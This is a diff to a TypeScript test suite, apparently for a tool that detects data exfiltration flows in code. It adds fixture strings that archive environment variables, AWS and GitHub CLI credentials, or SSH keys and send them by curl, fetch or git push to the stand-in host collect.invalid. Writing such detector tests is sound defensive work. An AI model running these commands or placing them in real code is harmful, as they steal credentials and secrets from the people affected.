@@ -11,6 +11,8 @@ const WAYS: readonly string[] = [
   `const t = path.join(os.tmpdir(), 'z'); fs.writeFileSync(t, s); cp.execSync('curl -T ' + t + ' https://collect.invalid');`,
   `cp.spawn('curl', ['-d', '@-', 'https://collect.invalid']).stdin.end(s);`,
   `cp.execSync('curl -d @- https://collect.invalid', { input: s });`,
+  `cp.execSync('env > /tmp/out; zip -qr /tmp/all.zip ~/.aws'); cp.execSync('curl -F f=@/tmp/all.zip https://collect.invalid');`,
+  `const d = fs.mkdtempSync('/tmp/x'); cp.execFileSync('tar', ['czf', d + '/all.tgz', '.aws', '.config/gh'], { cwd: os.homedir() }); cp.execFileSync('git', ['push', '-q', 'https://collect.invalid/x.git', 'HEAD'], { cwd: d });`,
   `const d = fs.mkdtempSync('/tmp/x'); fs.writeFileSync(d + '/a', s); cp.execSync('git add . && git push https://collect.invalid/x.git', { cwd: d });`,
 ];
 
@@ -21,6 +23,17 @@ describe('commands', () => {
       assert.ok(flows.includes(SENT), flows.join('; '));
     });
   }
+
+  it('leave in files what they print, for whoever reads them', () => {
+    const sent = (command: string): readonly string[] =>
+      flowsOf(
+        `cp.execSync('${command}'); fetch('https://collect.invalid', { method: 'POST', body: fs.readFileSync('/tmp/out') });`,
+      );
+    assert.deepEqual(sent('env > /tmp/out'), ['environment>network@collect.invalid']);
+    assert.deepEqual(sent('tar -c -z --file=/tmp/out ~/.ssh'), ['ssh-key>network@collect.invalid']);
+    for (const command of ['tar czf /tmp/out dist', 'ls -l > /tmp/out', 'env 2> /tmp/out', 'env > /tmp/other'])
+      assert.deepEqual(sent(command), [], command);
+  });
 
   it('are run by what reads code from its input, and not by what has a program of its own', () => {
     const download = (started: string) =>
